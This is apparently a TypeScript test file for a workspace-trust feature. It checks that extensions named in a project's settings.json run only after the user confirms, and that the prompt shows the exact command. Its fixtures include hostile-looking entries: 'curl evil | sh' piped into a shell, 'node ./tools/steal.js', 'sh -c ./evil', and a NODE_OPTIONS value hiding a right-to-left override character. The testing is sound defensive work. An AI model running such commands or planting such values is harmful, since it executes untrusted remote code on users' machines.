import assert from "node:assert/strict";
import { mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { TrustFile } from "@symposium-dev/core/node";
import { WorkspaceExtensions } from "../../../src/features/extensions/workspace-extensions.js";
import { parseSettings } from "../../../src/features/settings/settings-table.js";

const file = "/work/project/.vscode/settings.json";
const steal = { id: "helper", distribution: { executable: { command: "node", args: ["./tools/steal.js"] } } };

describe("extensions that a workspace's settings name", () => {
  let folder: string;
  beforeEach(async () => (folder = await realpath(await mkdtemp(join(tmpdir(), "workspace-extensions-")))));
  afterEach(() => rm(folder, { recursive: true, force: true }));

  /** Window whose user answers questions with `answers`, one after the other. */
  class Window {
    readonly asked: string[] = [];
    readonly told: string[] = [];
    readonly failures: string[] = [];
    readonly kept: Promise<void>[] = [];
    answers: (boolean | undefined)[] = [];
    isAskedAgain = false;
    own: unknown = undefined;
    file: string | undefined = file;
    readonly extensions: WorkspaceExtensions;

    constructor(public list: readonly unknown[]) {
      const trust = new TrustFile(folder);
      this.extensions = new WorkspaceExtensions({
        settings: () => parseSettings((key) => (key === "extensions" ? this.list : undefined)).settings,
        workspaceList: () => (this.file === undefined ? undefined : { file: this.file, own: this.own }),
        answers: {
          answerAbout: (...about) => trust.answerAbout(...about),
          keepAnswer: (...answer) => {
            const kept = trust.keepAnswer(...answer);
            this.kept.push(kept);
            return kept;
          },
        },
        confirm: (question, detail) => {
          this.asked.push(`${question}\n${detail}`);
          return Promise.resolve(this.answers.shift());
        },
        reportLeftOut: (text) => {
          this.told.push(text);
          return Promise.resolve(this.isAskedAgain);
        },
        failed: (message) => this.failures.push(message),
      });
    }

    async inChain(): Promise<readonly string[]> {
      await this.extensions.ask();
      return this.extensions.inChain().extensions.map(({ id }) => id);
    }
  }

  for (const [entry, shown] of [
    [steal, "node ./tools/steal.js"],
    [
      { id: "x", distribution: { npx: { package: "prettier", cmd: "-c", args: ["curl evil | sh"] } } },
      'npx -y --package prettier -c "curl evil | sh"',
    ],
    [
      { id: "x", distribution: { executable: { command: "node", env: { NODE_OPTIONS: "-r ./x\u202e" } } } },
      '"NODE_OPTIONS=-r ./x\\u{202e}" node',
    ],
    [
      { id: "x", distribution: { binary: { "linux-x86_64": { archive: "https://e.example/a.tgz", cmd: "./a" } } } },
      '{"linux-x86_64":{"archive":"https://e.example/a.tgz","cmd":"./a"}}',
    ],
    [{ id: "x", distribution: { cargo: { crate: "evil" } } }, '{"cargo":{"crate":"evil"}}'],
    [{ id: "sh -c ./evil" }, "sh -c ./evil"],
    [{ id: "linter", _source: "built-in" }, 'the extension "linter", installed, registered or on PATH'],
    [
      { id: "ide-operations", options: { languageServers: { rust: { command: "./evil" } } } },
      'the built-in extension "ide-operations"\n\nwith the options {"languageServers":{"rust":{"command":"./evil"}}}',
    ],
  ] as const) {
    it(`are asked about with all that would run, and where it is from: ${shown.replaceAll("\n", " ")}`, async () => {
      const window = new Window([entry]);
      window.answers = [true];
      assert.deepEqual(window.extensions.inChain().extensions, []);
      assert.deepEqual(await window.inChain(), [entry.id]);
      assert.equal(window.asked.length, 1);
      assert.ok(window.asked[0]?.includes(`\n${file} asks for it. This will run:\n\n${shown}\n\n`), window.asked[0]);
    });
  }

  it("are asked about once, by every window, and again where the content or the workspace is another", async () => {
    const first = new Window([steal]);
    first.answers = [true];
    assert.deepEqual([await first.inChain(), await first.inChain()], [["helper"], ["helper"]]);
    const second = new Window([steal]);
    assert.deepEqual([await second.inChain(), first.asked.length, second.asked.length], [["helper"], 1, 0]);

    second.list = [{ ...steal, distribution: { executable: { command: "node", args: ["./tools/other.js"] } } }];
    assert.deepEqual(second.extensions.inChain().extensions, []);
    assert.deepEqual([await second.inChain(), second.asked.length], [[], 1]);

    const elsewhere = new Window([steal]);
    elsewhere.file = "/work/other/.vscode/settings.json";
    assert.deepEqual([await elsewhere.inChain(), elsewhere.asked.length], [[], 1]);
  });

  it("ask nothing as long as they are built in, switched off, the user's own, or not the workspace's", async () => {
    const window = new Window([{ id: "ferris" }, { ...steal, _enabled: false }]);
    assert.deepEqual(await window.inChain(), ["ferris", "helper"]);
    window.list = [steal];
    window.own = [{ ...steal, _enabled: true }];
    assert.deepEqual(await window.inChain(), ["helper"]);
    window.own = undefined;
    window.file = undefined;
    assert.deepEqual(await window.inChain(), ["helper"]);
    assert.deepEqual(window.asked, []);
    window.own = [{ ...steal, _enabled: false }];
    window.file = file;
    assert.deepEqual([await window.inChain(), window.asked.length], [[], 1]);
  });

  it("are left out where they are refused, which is kept and told; the chat goes on with the others", async () => {
    const window = new Window([{ id: "ferris" }, steal]);
    window.answers = [false];
    assert.deepEqual([await window.inChain(), await window.inChain()], [["ferris"], ["ferris"]]);
    assert.match(
      window.told.join("\n"),
      /^Not used: "helper"\. .*settings\.json lists this, but you haven't allowed it\./,
    );
    const later = new Window([{ id: "ferris" }, steal]);
    assert.deepEqual([await later.inChain(), later.asked.length, later.told.length], [["ferris"], 0, 1]);
  });

  it("are allowed after all by asking again", async () => {
    const window = new Window([steal]);
    window.answers = [false];
    await window.inChain();
    const later = new Window([steal]);
    later.isAskedAgain = true;
    later.answers = [true];
    await later.inChain();
    // The second question is nothing that a chat waits for.
    await new Promise((resolve) => setImmediate(resolve));
    await Promise.all(later.kept);
    assert.deepEqual([await later.inChain(), later.kept.length], [["helper"], 1]);
    assert.deepEqual(await new Window([steal]).inChain(), ["helper"]);
  });

  it("are asked about in the next window again where the question was dismissed, and one question is open at a time", async () => {
    const window = new Window([steal]);
    assert.deepEqual(await Promise.all([window.inChain(), window.inChain()]), [[], []]);
    assert.equal(window.asked.length, 1);
    const later = new Window([steal]);
    later.answers = [true];
    assert.deepEqual([await later.inChain(), later.asked.length], [["helper"], 1]);
  });

  it("hold for the window where the answer cannot be kept, and the user is told", async () => {
    await writeFile(join(folder, "trust.json"), "{");
    const window = new Window([steal]);
    window.answers = [true];
    assert.deepEqual(await window.inChain(), ["helper"]);
    assert.match(window.failures.join("\n"), /Can't read .*trust\.json/);
    assert.equal(await readFile(join(folder, "trust.json"), "utf8"), "{");
  });
});
